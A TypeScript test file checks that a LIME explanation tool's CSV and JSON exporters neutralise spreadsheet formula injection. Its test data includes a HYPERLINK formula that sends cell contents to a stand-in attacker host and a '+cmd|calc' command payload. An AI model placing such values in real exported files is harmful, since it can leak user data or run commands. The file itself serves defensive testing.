import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  DEFAULT_LIME_SETTINGS,
  csvCell,
  defaultTrainSettings,
  explainDataRow,
  explanationsCsv,
  explanationsJson,
  importancesCsv,
  loadDataset,
  metricsCsv,
  neutraliseFormula,
  trainModel,
  type ExplainedCase,
  type TrainedModel,
} from '../../../src-main/engine';
import { explanationDTO, trainResult } from '../../../src-main/worker/dto';
import type { TrainResultDTO } from '../../../src-main/contract/ipc';
import { csvRecords, parseCsv } from './parseCsv';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

/** 60 cases: an identifier column with a formula in it, a numeric and a categorical feature. */
function hostileCsv(): string {
  const lines = ['patient,age,@colour,outcome'];
  for (let i = 0; i < 60; i++) {
    const id =
      i === 3 ? HYPERLINK : i === 4 ? '-7' : i === 5 ? '+cmd|calc' : `P${String(i).padStart(3, '0')}`;
    const colour = ['red', '=1+2', 'blue'][i % 3];
    const age = 20 + ((i * 37) % 50) - (i % 7 === 0 ? 45 : 0);
    lines.push(`"${id.replaceAll('"', '""')}",${age},${colour},${age + (i % 3) * 10 > 45 ? 'sick' : 'well'}`);
  }
  return `${lines.join('\n')}\n`;
}

describe('csvCell', () => {
  it('writes our numbers as shortest round-trip numbers, negative ones unquoted and unprefixed', () => {
    expect(csvCell(-0.123456789012345)).toBe('-0.123456789012345');
    expect(csvCell(1e-21)).toBe('1e-21');
    expect(Number(csvCell(0.1 + 0.2))).toBe(0.1 + 0.2);
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
  });

  it('neutralises data text that a spreadsheet would run, and quotes what CSV needs quoted', () => {
    expect(csvCell(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(csvCell('+cmd|calc')).toBe("'+cmd|calc");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    // A plain decimal in a text column is read as a number by every spreadsheet: nothing to run.
    expect(neutraliseFormula('-7')).toBe('-7');
    expect(neutraliseFormula('+1.5e3')).toBe('+1.5e3');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('환자 1')).toBe('환자 1');
  });
});

describe('explanation, metric and importance writers on a trained model', () => {
  let model: TrainedModel;
  let train: TrainResultDTO;
  let cases: ExplainedCase[];
  beforeAll(async () => {
    const dataset = loadDataset(new TextEncoder().encode(hostileCsv()), 'hostile.csv');
    const settings = {
      ...defaultTrainSettings(dataset, 'outcome', { nEstimators: 15, seed: 3 }),
      features: ['age', '@colour'],
    };
    model = trainModel(dataset, settings);
    train = trainResult('m1', 'd1', settings, model, dataset);
    const ids = dataset.values[0];
    const lime = { ...DEFAULT_LIME_SETTINGS, numSamples: 500 };
    cases = [];
    for (const t of train.testCases.slice(0, 3)) {
      const e = await explainDataRow(model, dataset, t.row, lime);
      cases.push({
        ...t,
        row: t.row + 1,
        id: String(ids[t.row]),
        explanation: explanationDTO('m1', model, e),
      });
    }
    // Data row 3 holds the formula id; explaining both classes gives weights of both signs.
    for (const label of [0, 1]) {
      const e = await explainDataRow(model, dataset, 3, lime, { label });
      const predicted = model.frame.classes[e.probabilities![0] >= 0.5 ? 0 : 1];
      const actual = String(dataset.values[3][3]);
      cases.push({
        row: 4,
        id: String(ids[3]),
        actual,
        predicted,
        explanation: explanationDTO('m1', model, e),
      });
    }
  });

  it('CSV: one line per case × feature that parses back to exactly the engine numbers', () => {
    const text = explanationsCsv(cases);
    expect(text.startsWith('\uFEFFrow,id,true,predicted,explained_class,probability,feature,value,')).toBe(
      true,
    );
    const records = csvRecords(text);
    expect(records).toHaveLength(cases.reduce((n, c) => n + c.explanation.weights.length, 0));
    let k = 0;
    for (const c of cases) {
      for (const w of c.explanation.weights) {
        const r = records[k++];
        expect(Number(r.row)).toBe(c.row);
        expect(Number(r.weight)).toBe(w.weight);
        expect(Number(r.intercept)).toBe(c.explanation.intercept);
        expect(Number(r.score)).toBe(c.explanation.score);
        expect(Number(r.local_prediction)).toBe(c.explanation.localPred);
        expect(Number(r.probability)).toBe(c.explanation.modelPred);
        expect(r.explained_class).toBe(c.explanation.classes[c.explanation.label!]);
        expect(r.feature).toBe(w.feature === '@colour' ? "'@colour" : w.feature);
        if (typeof w.value === 'number') expect(Number(r.value)).toBe(w.value);
      }
    }
  });

  it('CSV: a data cell =HYPERLINK(...) is written inert, a weight below zero stays a number', () => {
    const text = explanationsCsv(cases);
    const records = csvRecords(text);
    const hostile = records.filter((r) => Number(r.row) === 4);
    expect(hostile.length).toBeGreaterThan(0);
    for (const r of hostile) expect(r.id).toBe(`'${HYPERLINK}`);
    // No cell of the file starts with a formula character unless it is a number we computed.
    for (const cell of parseCsv(text).flat()) {
      if (/^[=+\-@]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
    }
    const negative = records.find((r) => Number(r.weight) < 0);
    expect(negative?.weight.startsWith('-')).toBe(true);
    const colourRows = records.filter((r) => r.condition.includes('colour'));
    for (const r of colourRows) expect(r.condition.startsWith('@')).toBe(false);
  });

  it('JSON: parses back to the same numbers and structure', () => {
    const doc = JSON.parse(explanationsJson(cases)) as {
      format: string;
      version: number;
      cases: {
        row: number;
        id: string;
        explainedClass: string;
        probability: number;
        probabilities: Record<string, number>;
        intercept: number;
        score: number;
        localPrediction: number;
        settings: { kernelWidth: number; numSamples: number };
        weights: { feature: string; weight: number; value: unknown; condition: string }[];
      }[];
    };
    expect(doc.format).toBe('lime-lens/explanations');
    expect(doc.version).toBe(1);
    expect(doc.cases).toHaveLength(cases.length);
    doc.cases.forEach((d, i) => {
      const e = cases[i].explanation;
      expect(d.row).toBe(cases[i].row);
      expect(d.id).toBe(cases[i].id);
      expect(d.intercept).toBe(e.intercept);
      expect(d.score).toBe(e.score);
      expect(d.localPrediction).toBe(e.localPred);
      expect(d.probability).toBe(e.modelPred);
      expect(d.probabilities).toEqual({ sick: e.probabilities![0], well: e.probabilities![1] });
      expect(d.settings.numSamples).toBe(500);
      expect(d.settings.kernelWidth).toBe(0.75 * Math.sqrt(2));
      expect(d.weights).toEqual(
        e.weights.map((w) => ({
          feature: w.feature,
          value: w.value,
          condition: w.condition,
          weight: w.weight,
        })),
      );
    });
    expect(doc.cases.some((c) => c.id === HYPERLINK)).toBe(true);
  });

  it('metrics CSV: every figure and confusion cell of the model, exactly', () => {
    const records = csvRecords(metricsCsv(train));
    const m = train.metrics;
    if (m.task !== 'classification') throw new Error('expected classification');
    const value = (metric: string, cls = '', predicted = '') =>
      Number(
        records.find((r) => r.metric === metric && r.class === cls && r.predicted_class === predicted)?.value,
      );
    expect(value('accuracy')).toBe(m.accuracy);
    expect(value('balanced_accuracy')).toBe(m.balancedAccuracy);
    expect(value('roc_auc')).toBe(m.rocAuc);
    expect(value('recall', 'sick')).toBe(m.perClass[0].recall);
    expect(value('support', 'well')).toBe(m.perClass[1].support);
    expect(value('confusion', 'sick', 'well')).toBe(m.confusion[0][1]);
    expect(value('confusion', 'well', 'well')).toBe(m.confusion[1][1]);
    const confusionTotal = records
      .filter((r) => r.metric === 'confusion')
      .reduce((s, r) => s + Number(r.value), 0);
    expect(confusionTotal).toBe(train.split.test);
  });

  it('metrics CSV: regression figures and cross-validation folds', () => {
    const records = csvRecords(
      metricsCsv({
        metrics: { task: 'regression', r2: 0.41, mae: 44.5, rmse: -0, actual: [], predicted: [] },
        crossValidation: { k: 2, metric: 'r2', scores: [0.4, 0.38], mean: 0.39, std: 0.01 },
      }),
    );
    expect(records.map((r) => [r.metric, r.class, r.value])).toEqual([
      ['r2', '', '0.41'],
      ['mae', '', '44.5'],
      ['rmse', '', '0'],
      ['cv_r2', 'fold 1', '0.4'],
      ['cv_r2', 'fold 2', '0.38'],
      ['cv_r2_mean', '', '0.39'],
      ['cv_r2_std', '', '0.01'],
    ]);
  });

  it('importances CSV: both kinds per feature, in impurity order, exactly', () => {
    const records = csvRecords(importancesCsv(train));
    expect(records.map((r) => r.feature)).toEqual(
      train.impurityImportance.map((i) => (i.feature.startsWith('@') ? `'${i.feature}` : i.feature)),
    );
    for (const r of records) {
      const name = r.feature.replace(/^'/, '');
      expect(Number(r.impurity_importance)).toBe(
        train.impurityImportance.find((i) => i.feature === name)!.importance,
      );
      const p = train.permutationImportance.find((i) => i.feature === name)!;
      expect(Number(r.permutation_importance)).toBe(p.importance);
      expect(Number(r.permutation_std)).toBe(p.std);
    }
  });
});

describe('regression explanations CSV', () => {
  it('has a predicted_value column instead of class and probability', async () => {
    const bytes = new Uint8Array(
      readFileSync(new URL('../../../assets/samples/diabetes.csv', import.meta.url)),
    );
    const dataset = loadDataset(bytes, 'diabetes.csv');
    const model = trainModel(dataset, defaultTrainSettings(dataset, undefined, { nEstimators: 10 }));
    const e = await explainDataRow(model, dataset, 7, { ...DEFAULT_LIME_SETTINGS, numSamples: 300 });
    const text = explanationsCsv([
      { row: 8, id: null, actual: 1, predicted: 2, explanation: explanationDTO('m', model, e) },
    ]);
    const [header] = parseCsv(text);
    expect(header).toEqual([
      'row',
      'id',
      'true',
      'predicted',
      'predicted_value',
      'feature',
      'value',
      'condition',
      'weight',
      'intercept',
      'score',
      'local_prediction',
    ]);
    const records = csvRecords(text);
    expect(records).toHaveLength(8);
    expect(records.every((r) => r.id === '' && Number(r.predicted_value) === e.modelPred)).toBe(true);
  });
});
